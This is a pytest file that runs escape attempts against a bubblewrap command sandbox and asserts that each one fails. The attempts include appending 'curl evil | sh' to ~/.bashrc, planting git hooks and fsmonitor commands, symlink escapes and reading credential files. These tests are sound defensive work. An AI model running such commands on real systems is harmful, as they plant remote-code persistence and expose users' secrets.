"""The command sandbox, against the real bubblewrap: what a command may and may not touch.

No mocks: each test builds the command line with ``planloop.workspace.sandbox`` and runs it. The
world is a real git repository as the workspace, a fake home with credential files, and a
directory "outside"; all of it lives under /var/tmp, not /tmp, because the sandbox gives
every command a private /tmp, and a test whose "outside" sits in /tmp would pass without
proving the host's files are read-only. One test puts a workspace under /tmp on purpose.

The network tests never send a packet: 192.0.2.1 is TEST-NET-1 and the sandbox's network
namespace has no route, so a connect fails at once with "Network is unreachable".
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from planloop.workspace.bwrap import find_bwrap, wrap
from planloop.workspace.sandbox import explain_refusal, probe, sandboxed, visible_paths
from planloop.workspace.sandbox_rules import INSTALL_FIX, SandboxSpec, env_for, placeholders
from planloop.workspace.seatbelt import macos_profile

GIT = [
    "git",
    "-c",
    "user.name=t",
    "-c",
    "user.email=t@example.invalid",
    "-c",
    "init.defaultBranch=main",
]


@pytest.fixture(scope="module")
def bwrap() -> str:
    """The system bwrap; `make test` (PLANLOOP_E2E=1) fails instead of skipping without it."""
    found = find_bwrap()
    if found is None:
        if os.environ.get("PLANLOOP_E2E") == "1":
            pytest.fail("PLANLOOP_E2E=1 but bwrap is not installed (apt install bubblewrap)")
        pytest.skip("bwrap is not installed (apt install bubblewrap)")
    status = probe(found)
    if not status.available:
        pytest.fail(f"bwrap is installed but cannot sandbox here: {status.reason}")
    return found


@dataclass
class World:
    base: Path
    ws: Path
    home: Path
    outside: Path
    bwrap: str

    def spec(self, **kw: object) -> SandboxSpec:
        return replace(SandboxSpec(root=self.ws, home=self.home, readable=visible_paths()), **kw)  # type: ignore[arg-type]


@dataclass
class Ran:
    code: int | None
    out: str
    seconds: float


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def _env(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        HOME=str(home),
        GIT_OPTIONAL_LOCKS="0",
        GIT_CONFIG_NOSYSTEM="1",
        PYTEST_DISABLE_PLUGIN_AUTOLOAD="1",
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.invalid",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.invalid",
    )
    return env


def _make_repo(path: Path) -> None:
    path.mkdir(parents=True, exist_ok=True)
    _git(path, "init", "-q")
    (path / "README").write_text("hello\n")
    _git(path, "add", "README")
    _git(path, "commit", "-qm", "first")


@pytest.fixture
def world(bwrap: str) -> Iterator[World]:
    base = Path(tempfile.mkdtemp(prefix="planloop-sbx-test-", dir="/var/tmp"))
    ws, home, outside = base / "ws", base / "home", base / "outside"
    _make_repo(ws)
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=abc\n")
    (home / ".netrc").write_text("machine example.com password hunter2\n")
    (home / ".env").write_text("TOKEN=hunter2\n")
    (home / ".bashrc").write_text("# rc\n")
    outside.mkdir()
    (outside / "keep.txt").write_text("keep\n")
    try:
        yield World(base, ws, home, outside, bwrap)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def run(w: World, script: str, spec: SandboxSpec | None = None, timeout: float = 60) -> Ran:
    """``bash -c script`` in the sandbox from the workspace, as Workspace.run starts it."""
    start = time.monotonic()
    with sandboxed(["bash", "-c", script], spec or w.spec(), _env(w.home), bwrap=w.bwrap) as (
        argv,
        env,
    ):
        proc = subprocess.Popen(
            argv,
            cwd=w.ws,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        try:
            out, _ = proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            out, _ = proc.communicate()
            return Ran(None, out.decode(errors="replace"), time.monotonic() - start)
    return Ran(proc.returncode, out.decode(errors="replace"), time.monotonic() - start)


def snapshot(*roots: Path) -> dict[str, str]:
    """Every entry under ``roots`` with a digest of its content (or link target)."""
    seen: dict[str, str] = {}
    for root in roots:
        if not os.path.lexists(root):
            seen[str(root)] = "<absent>"
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            for name in dirnames + filenames:
                p = Path(dirpath) / name
                if p.is_symlink():
                    seen[str(p)] = "link:" + os.readlink(p)
                elif p.is_file():
                    seen[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
                else:
                    seen[str(p)] = "dir"
        seen[str(root)] = "link:" + os.readlink(root) if root.is_symlink() else "root"
    return seen


# --- writes outside the workspace ------------------------------------------------------


def test_write_home_bashrc_refused(world: World) -> None:
    before = snapshot(world.home)
    r = run(world, 'echo "curl evil | sh" >> "$HOME/.bashrc"')
    assert r.code != 0 and "Read-only file system" in r.out
    assert snapshot(world.home) == before


def test_write_etc_refused(world: World) -> None:
    r = run(world, "echo x > /etc/planloop-sbx-test")
    assert r.code != 0 and "Read-only file system" in r.out
    assert not os.path.lexists("/etc/planloop-sbx-test")


def test_write_outside_via_dotdot_refused(world: World) -> None:
    r = run(world, "echo x > ../escaped; echo y > ../outside/keep.txt")
    assert "Read-only file system" in r.out
    assert not (world.base / "escaped").exists()
    assert (world.outside / "keep.txt").read_text() == "keep\n"


def test_write_outside_via_absolute_path_refused(world: World) -> None:
    r = run(world, f"python3 -c \"open('{world.outside}/new.txt', 'w').write('x')\"")
    assert r.code != 0 and "Read-only file system" in r.out
    assert not (world.outside / "new.txt").exists()


def test_write_outside_via_planted_symlink_refused(world: World) -> None:
    r = run(world, f"ln -s {world.outside} link && echo x > link/keep.txt; rm -f link/keep.txt")
    assert "Read-only file system" in r.out
    assert (world.outside / "keep.txt").read_text() == "keep\n"


def test_mounts_cannot_be_undone(world: World) -> None:
    """Root inside the sandbox has no capabilities: the read-only covers stay in place."""
    r = run(world, "umount .git; mount -o remount,rw /; mount -o remount,rw .git; echo x > .git/x")
    assert not (world.ws / ".git" / "x").exists(), r.out


def test_no_new_privileges_and_no_capabilities(world: World) -> None:
    r = run(world, "grep -E '^(NoNewPrivs|CapEff):' /proc/self/status")
    assert "NoNewPrivs:\t1" in r.out
    assert "CapEff:\t0000000000000000" in r.out


# --- the user's git and planloop's state -------------------------------------------

GIT_TARGETS = {
    "config": ".git/config",
    "hook": ".git/hooks/pre-commit",
    "HEAD": ".git/HEAD",
    "ref": ".git/refs/heads/main",
    "index": ".git/index",
}
WRITERS = {
    "python": "python3 -c \"open('{p}', 'w').write('pwned')\"; python3 -c \"import os; os.remove('{p}')\"",
    "sh": "sh -c 'echo pwned > {p}; rm -f {p}; mv {p} {p}.bak'",
}


@pytest.mark.parametrize("writer", list(WRITERS))
@pytest.mark.parametrize("target", list(GIT_TARGETS))
def test_git_internals_read_only(world: World, target: str, writer: str) -> None:
    before = snapshot(world.ws / ".git")
    r = run(world, WRITERS[writer].format(p=GIT_TARGETS[target]))
    assert "Read-only file system" in r.out, r.out
    assert snapshot(world.ws / ".git") == before


def test_git_commit_refused(world: World) -> None:
    before = snapshot(world.ws / ".git")
    r = run(world, "echo change >> README && git commit -qam change")
    assert r.code != 0 and "Read-only file system" in r.out
    assert snapshot(world.ws / ".git") == before
    assert (world.ws / "README").read_text() == "hello\nchange\n"  # the workspace is writable


def test_git_config_refused(world: World) -> None:
    before = snapshot(world.ws / ".git")
    r = run(world, "git config core.fsmonitor 'touch /tmp/pwned'")
    assert r.code != 0
    assert snapshot(world.ws / ".git") == before


def test_git_update_ref_refused(world: World) -> None:
    before = snapshot(world.ws / ".git")
    r = run(world, "git update-ref refs/heads/evil HEAD")
    assert r.code != 0
    assert snapshot(world.ws / ".git") == before


def test_replace_git_with_symlink_fails(world: World) -> None:
    before = snapshot(world.ws / ".git")
    r = run(world, "rm -rf .git; mv .git .git-old; ln -s /tmp/x .git; ls -ld .git")
    assert snapshot(world.ws / ".git") == before, r.out
    assert (world.ws / ".git").is_dir() and not (world.ws / ".git").is_symlink()


def test_replace_planloop_with_symlink_fails(world: World) -> None:
    (world.ws / ".planloop").mkdir()
    (world.ws / ".planloop" / "state.json").write_text("{}")
    before = snapshot(world.ws / ".planloop")
    r = run(
        world,
        "echo x > .planloop/state.json; rm -rf .planloop; mv .planloop p2; "
        f"ln -s {world.outside} .planloop",
    )
    assert "Read-only file system" in r.out
    assert snapshot(world.ws / ".planloop") == before


def test_missing_planloop_cannot_be_created(world: World) -> None:
    r = run(world, f"mkdir -p .planloop/x; ln -s {world.outside} .planloop; ls -la .planloop")
    assert "Read-only file system" in r.out or "File exists" in r.out, r.out
    # the placeholder bwrap needed as a mount point is gone again
    assert not os.path.lexists(world.ws / ".planloop")


def test_missing_git_cannot_be_planted(world: World) -> None:
    shutil.rmtree(world.ws / ".git")
    assert placeholders(world.spec()) == [world.ws / ".git", world.ws / ".planloop"]
    r = run(
        world,
        "git init -q; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
        f"ln -s {world.outside} .git; echo x > .git/config",
    )
    assert "Read-only file system" in r.out or "File exists" in r.out, r.out
    assert not os.path.lexists(world.ws / ".git")
    assert not os.path.lexists(world.ws / ".planloop")


def test_worktree_gitdir_read_only(world: World) -> None:
    """A worktree's ``.git`` file points into the main repository: that stays read-only
    even when the main repository is itself one of the writable paths."""
    main = world.base / "main"
    _make_repo(main)
    wt = world.base / "wt"
    _git(main, "worktree", "add", "-q", str(wt))
    gitdir = main / ".git" / "worktrees" / "wt"
    before = snapshot(main / ".git", wt / ".git")
    spec = SandboxSpec(root=wt, home=world.home, writable=(main,), readable=visible_paths())
    r = run(
        replace(world, ws=wt),
        f"echo x > {gitdir}/HEAD; echo y > {main}/.git/refs/heads/evil; "
        "echo 'gitdir: /tmp/fake' > .git; git commit -q --allow-empty -m x; "
        f"echo ok > {main}/extra.txt",
        spec,
    )
    assert "Read-only file system" in r.out
    assert snapshot(main / ".git", wt / ".git") == before
    assert (main / "extra.txt").read_text() == "ok\n"  # the writable path itself is writable


def test_separate_gitdir_in_writable_path_read_only(world: World) -> None:
    """``gitdir:`` pointing into an extra writable directory (which has no .git of its own)."""
    extra = world.base / "extra"
    extra.mkdir()
    ws = world.base / "ws2"
    ws.mkdir()
    _git(ws, "init", "-q", f"--separate-git-dir={extra / 'store.git'}")
    before = snapshot(extra / "store.git")
    spec = SandboxSpec(root=ws, home=world.home, writable=(extra,), readable=visible_paths())
    r = run(replace(world, ws=ws), f"echo x > {extra}/store.git/config; echo ok > {extra}/f", spec)
    assert "Read-only file system" in r.out
    assert snapshot(extra / "store.git") == before
    assert (extra / "f").read_text() == "ok\n"


def test_symlinked_git_dir_target_read_only(world: World) -> None:
    extra = world.base / "extra"
    extra.mkdir()
    shutil.move(world.ws / ".git", extra / "real.git")
    (world.ws / ".git").symlink_to(extra / "real.git")
    before = snapshot(extra / "real.git")
    spec = world.spec(writable=(extra,))
    r = run(world, "echo x > .git/config; git commit -q --allow-empty -m x", spec)
    assert "Read-only file system" in r.out
    assert snapshot(extra / "real.git") == before


# --- credentials ---------------------------------------------------------------------


@pytest.mark.parametrize("path", [".ssh/id_rsa", ".aws/credentials", ".netrc", ".env"])
def test_credentials_not_readable(world: World, path: str) -> None:
    r = run(world, f'cat "$HOME/{path}"')
    for secret in ("PRIVATE KEY", "aws_secret", "hunter2"):
        assert secret not in r.out, r.out
    listed = run(world, 'ls -A "$HOME/.ssh" "$HOME/.aws"').out.split()
    assert "id_rsa" not in listed and "credentials" not in listed
    assert (world.home / path).exists()  # hidden, not deleted


def test_other_home_files_readable(world: World) -> None:
    assert run(world, 'cat "$HOME/.bashrc"').out == "# rc\n"


# --- network -------------------------------------------------------------------------


def test_tcp_to_non_loopback_unreachable(world: World) -> None:
    r = run(
        world,
        "python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), timeout=3)\"",
    )
    assert r.code != 0 and "Network is unreachable" in r.out, r.out
    assert r.seconds < 2.5  # refused at once, not a timeout: nothing left the namespace


def test_name_resolution_fails(world: World) -> None:
    r = run(world, "python3 -c \"import socket; socket.getaddrinfo('example.com', 443)\"")
    assert r.code != 0 and "gaierror" in r.out, r.out


def test_local_http_server_works(world: World) -> None:
    (world.ws / "index.html").write_text("served\n")
    r = run(
        world,
        "python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 & "
        "for i in $(seq 100); do "
        'python3 -c "import urllib.request as u; '
        "print(u.urlopen('http://127.0.0.1:8765/index.html').read().decode())\" "
        "2>/dev/null && break; sleep 0.1; done",
    )
    assert "served" in r.out, r.out


def test_network_option_shares_host_network(world: World) -> None:
    """Compared by interface names only: nothing is sent."""
    host = sorted(
        line.split(":")[0].strip() for line in Path("/proc/net/dev").read_text().splitlines()[2:]
    )
    r = run(world, "tail -n +3 /proc/net/dev | cut -d: -f1", world.spec(network=True))
    assert sorted(x.strip() for x in r.out.split()) == host
    r = run(world, "tail -n +3 /proc/net/dev | cut -d: -f1")
    assert r.out.split() == ["lo"]


def test_host_daemon_sockets_hidden(world: World) -> None:
    assert run(world, "ls -A /run").out == ""


# --- processes -----------------------------------------------------------------------


def _alive_with_argv(marker: str) -> bool:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    return True
            except OSError:
                continue
    return False


def test_background_process_does_not_outlive_command(world: World) -> None:
    r = run(world, "(sleep 2; touch late-marker) & sleep 987.125 & echo started")
    assert "started" in r.out and r.seconds < 1.5
    time.sleep(2.5)
    assert not (world.ws / "late-marker").exists()
    assert not _alive_with_argv("987.125")


def test_timeout_kills_tree(world: World) -> None:
    r = run(world, "(sleep 2; touch late-marker) & sleep 986.125", timeout=0.5)
    assert r.code is None
    time.sleep(2.5)
    assert not (world.ws / "late-marker").exists()
    assert not _alive_with_argv("986.125")


# --- legitimate work -----------------------------------------------------------------


def test_workspace_writes_work(world: World) -> None:
    r = run(world, "mkdir -p src/pkg && echo 'x = 1' > src/pkg/mod.py && mv README README.md")
    assert r.code == 0, r.out
    assert (world.ws / "src/pkg/mod.py").read_text() == "x = 1\n"
    assert (world.ws / "README.md").exists()


def test_git_status_and_diff_work(world: World) -> None:
    before = snapshot(world.ws / ".git")
    r = run(
        world, "echo more >> README && git status --short && git diff --stat && git log --oneline"
    )
    assert r.code == 0, r.out
    assert "M README" in r.out and "1 insertion" in r.out and "first" in r.out
    assert snapshot(world.ws / ".git") == before


def test_pytest_in_workspace_works(world: World) -> None:
    (world.ws / "test_tiny.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    r = run(world, f"{sys.executable} -m pytest -q -p no:cacheprovider test_tiny.py")
    assert r.code == 0 and "1 passed" in r.out, r.out


def test_tmpdir_writable_and_caches_inside(world: World) -> None:
    r = run(
        world,
        'echo t > "$TMPDIR/a" && echo u > /tmp/b && cat "$TMPDIR/a" /tmp/b && '
        'echo "$TMPDIR $PIP_CACHE_DIR $XDG_CACHE_HOME $UV_CACHE_DIR $npm_config_cache" && '
        'mkdir -p "$PIP_CACHE_DIR" && echo ok > /dev/null && echo devnull-ok',
    )
    assert r.code == 0, r.out
    lines = r.out.splitlines()
    assert lines[:2] == ["t", "u"]
    assert all(v.startswith("/tmp") for v in lines[2].split())
    assert "devnull-ok" in r.out


def test_private_tmp_is_fresh_and_removed(world: World) -> None:
    marker = Path(tempfile.gettempdir()) / f"planloop-sbx-host-{os.getpid()}"
    marker.write_text("host-only-content")
    try:
        r = run(world, f"cat {marker}; ls -A /tmp; echo x > /tmp/left")
        assert "host-only-content" not in r.out and marker.name not in r.out.split()
        assert not list(Path(tempfile.gettempdir()).glob("planloop-sbx-*/left"))
    finally:
        marker.unlink()


def test_workspace_under_tmp_works(world: World, tmp_path: Path) -> None:
    """/tmp is private, yet a workspace (and home) under the host's /tmp stay visible."""
    ws, home = tmp_path / "ws", tmp_path / "home"
    _make_repo(ws)
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    w = World(tmp_path, ws, home, world.outside, world.bwrap)
    r = run(
        w, 'echo new > new.txt && git status --short && cat "$HOME/.bashrc" "$HOME/.ssh/id_rsa"'
    )
    assert (ws / "new.txt").read_text() == "new\n"
    assert "?? new.txt" in r.out and "# rc" in r.out and "PRIVATE KEY" not in r.out
    r = run(w, "echo x > .git/config; echo y > $HOME/.bashrc")
    assert r.out.count("Read-only file system") == 2


# --- finding bwrap and the probe -----------------------------------------------------


def test_find_bwrap_skips_one_in_the_workspace(world: World) -> None:
    planted = world.ws / "bin" / "bwrap"
    planted.parent.mkdir()
    planted.write_text('#!/bin/sh\nexec "$@"\n')
    planted.chmod(0o755)
    search = f"{planted.parent}{os.pathsep}{os.path.dirname(world.bwrap)}"
    assert find_bwrap(world.ws, search) == world.bwrap
    assert find_bwrap(world.ws, str(planted.parent)) is None
    assert find_bwrap(None, str(planted.parent)) == str(planted)


def test_probe_available_here(bwrap: str) -> None:
    status = probe(bwrap)
    assert status.available and status.backend == "bwrap"
    assert probe(bwrap) is status  # cached per bwrap path


def test_probe_missing_bwrap(tmp_path: Path) -> None:
    status = probe(str(tmp_path / "no-such-bwrap"))
    assert not status.available and status.backend == "none"
    assert INSTALL_FIX in status.fix and 'sandbox = "off"' in status.fix
    assert "\n" not in status.reason


def test_probe_namespaces_refused(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    status = probe(str(fake))
    assert not status.available
    assert "No permissions to create new namespace" in status.reason
    assert "apparmor_restrict_unprivileged_userns=0" in status.fix
    assert 'sandbox = "off"' in status.fix


def test_probe_unusable_binary_never_raises(tmp_path: Path) -> None:
    garbage = tmp_path / "bwrap"
    garbage.write_bytes(b"\x7fELF not really")
    garbage.chmod(0o755)
    status = probe(str(garbage))
    assert not status.available and status.reason


def test_wrap_refuses_tmpdir_inside_workspace(world: World) -> None:
    from planloop.workspace.sandbox_rules import SandboxError

    with pytest.raises(SandboxError):
        wrap(["true"], world.spec(), world.ws / "tmp", bwrap=world.bwrap)


# --- environment ---------------------------------------------------------------------


def test_env_for_points_caches_into_tmp() -> None:
    env = env_for({"PATH": "/usr/bin", "SSH_AUTH_SOCK": "/run/agent"}, Path("/tmp"))
    assert env["PATH"] == "/usr/bin" and "SSH_AUTH_SOCK" not in env
    for key in ("TMPDIR", "XDG_CACHE_HOME", "PIP_CACHE_DIR", "npm_config_cache", "UV_CACHE_DIR"):
        assert env[key].startswith("/tmp"), key


# --- macOS profile (text only: sandbox-exec cannot run here) ----------------------------


def _profile(tmp_path: Path, name: str = "ws", **kw: object) -> tuple[str, Path, Path]:
    ws, home = tmp_path / name, tmp_path / "home"
    (ws / ".git").mkdir(parents=True, exist_ok=True)
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".netrc").write_text("x")
    (home / ".env.local").write_text("x")
    spec = SandboxSpec(root=ws, home=home, readable=visible_paths(), **kw)  # type: ignore[arg-type]
    return macos_profile(spec, tmp_path / "t"), ws.resolve(), home.resolve()


def test_macos_profile_allows_writes_under_root_only(tmp_path: Path) -> None:
    text, ws, _ = _profile(tmp_path)
    assert text.startswith("(version 1)\n")
    assert "(allow default)" in text
    assert f'(require-all (subpath "{ws}")' in text
    assert f'(subpath "{(tmp_path / "t").resolve()}")' in text
    assert text.count("(") == text.count(")")


def test_macos_profile_denies_git_and_planloop(tmp_path: Path) -> None:
    text, ws, _ = _profile(tmp_path)
    assert f'(require-not (subpath "{ws}/.git"))' in text
    assert f'(require-not (subpath "{ws}/.planloop"))' in text
    assert f'(deny file-write* (subpath "{ws}/.git") (subpath "{ws}/.planloop")' in text


def test_macos_profile_denies_credentials(tmp_path: Path) -> None:
    text, _, home = _profile(tmp_path)
    deny = next(line for line in text.splitlines() if line.startswith("(deny file-read*"))
    assert f'(subpath "{home}/.ssh")' in deny
    assert f'(literal "{home}/.netrc")' in deny
    assert f'(literal "{home}/.env.local")' in deny


def test_macos_profile_network_off_unless_enabled(tmp_path: Path) -> None:
    text, _, _ = _profile(tmp_path)
    assert '(deny network-outbound (require-not (remote ip "localhost:*")))' in text
    on, _, _ = _profile(tmp_path, network=True)
    assert "(deny network" not in on


def test_macos_profile_escapes_quotes_and_backslashes(tmp_path: Path) -> None:
    text, ws, _ = _profile(tmp_path, name='we"ird\\ws')
    escaped = str(ws).replace("\\", "\\\\").replace('"', '\\"')
    assert f'(subpath "{escaped}")' in text
    assert f'(subpath "{ws!s}")' not in text  # the raw path would end the string early


def test_macos_profile_extra_writable(tmp_path: Path) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    text, _, _ = _profile(tmp_path, writable=(extra,))
    assert f'(subpath "{extra.resolve()}")' in text
    assert f'(subpath "{extra.resolve()}/.git")' in text


# --- explaining a refusal ------------------------------------------------------------


@pytest.mark.parametrize(
    "output",
    [
        "bash: line 1: /etc/x: Read-only file system",
        "fatal: Unable to create '/w/.git/index.lock': Read-only file system",
        "OSError: [Errno 30] Read-only file system: 'x'",
        "touch: cannot touch '/opt/x': Permission denied",
    ],
)
def test_explain_refusal_write(output: str) -> None:
    line = explain_refusal(output)
    assert line is not None and line.startswith("[planloop sandbox] a write")
    assert "\n" not in line


@pytest.mark.parametrize(
    "output",
    [
        "OSError: [Errno 101] Network is unreachable",
        "socket.gaierror: [Errno -3] Temporary failure in name resolution",
        "curl: (6) Could not resolve host: example.com",
        "ping: example.com: Name or service not known",
    ],
)
def test_explain_refusal_network(output: str) -> None:
    line = explain_refusal(output)
    assert line is not None and "network access was refused" in line
    assert explain_refusal(output, network=True) is None


def test_explain_refusal_silent_on_ordinary_failures() -> None:
    assert explain_refusal("FAILED tests/test_x.py::test_a - AssertionError") is None
    assert explain_refusal("bash: ./run.sh: Permission denied") is None
    assert explain_refusal("") is None


def test_explain_refusal_both() -> None:
    line = explain_refusal("x: Read-only file system\ny: Network is unreachable")
    assert line is not None and "write outside the writable workspace or a network access" in line


def test_a_probe_started_early_answers_when_first_asked(tmp_path: Path) -> None:
    """``planloop run`` starts the probe before it loads the rest; the first question
    reads that process's answer (a refusal as much as a success) and starts no other."""
    from planloop.workspace import bwrap as bw

    bindir = tmp_path / "bin"
    bindir.mkdir()
    count = tmp_path / "count"
    fake = bindir / "bwrap"
    fake.write_text(
        f"#!/bin/sh\necho x >> {count}\n"
        "echo 'bwrap: No permissions to create new namespace' >&2\nexit 1\n"
    )
    fake.chmod(0o755)
    old = os.environ["PATH"]
    os.environ["PATH"] = f"{bindir}{os.pathsep}{old}"
    try:
        bw.start_probe(tmp_path / "ws")
    finally:
        os.environ["PATH"] = old
    assert str(fake) in bw._started
    status = bw.probe_bwrap(str(fake))
    assert not status.available and "No permissions to create new namespace" in status.reason
    assert str(fake) not in bw._started
    assert count.read_text().count("x") == 1  # the early process answered
    bw.probe_bwrap(str(fake))  # asked again without an early one: it runs again
    assert count.read_text().count("x") == 2


def test_the_early_probe_never_raises_and_is_not_started_when_the_sandbox_is_off(
    bwrap: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from planloop import cli
    from planloop.workspace import bwrap as bw

    def unreadable(*_: object) -> str:
        raise PermissionError("a PATH entry that cannot be searched")

    monkeypatch.setattr(bw, "find_bwrap", unreadable)
    bw.start_probe(tmp_path)  # no exception, no probe
    assert not bw._started
    monkeypatch.undo()
    monkeypatch.delenv("PLANLOOP_SANDBOX", raising=False)
    ws = tmp_path / "ws"
    ws.mkdir()
    # no plan here: run stops at once, after main has (or has not) started the probe
    assert cli.main(["run", "--workspace", str(ws), "--sandbox", "off"]) != 0
    assert not bw._started
    monkeypatch.setenv("PLANLOOP_SANDBOX", "off")
    assert cli.main(["run", "--workspace", str(ws)]) != 0
    assert not bw._started
    monkeypatch.delenv("PLANLOOP_SANDBOX")
    assert cli.main(["run", "--workspace", str(ws)]) != 0
    assert list(bw._started) == [find_bwrap(ws)]  # on: the probe runs beside the imports
    bw._reap()
    assert not bw._started
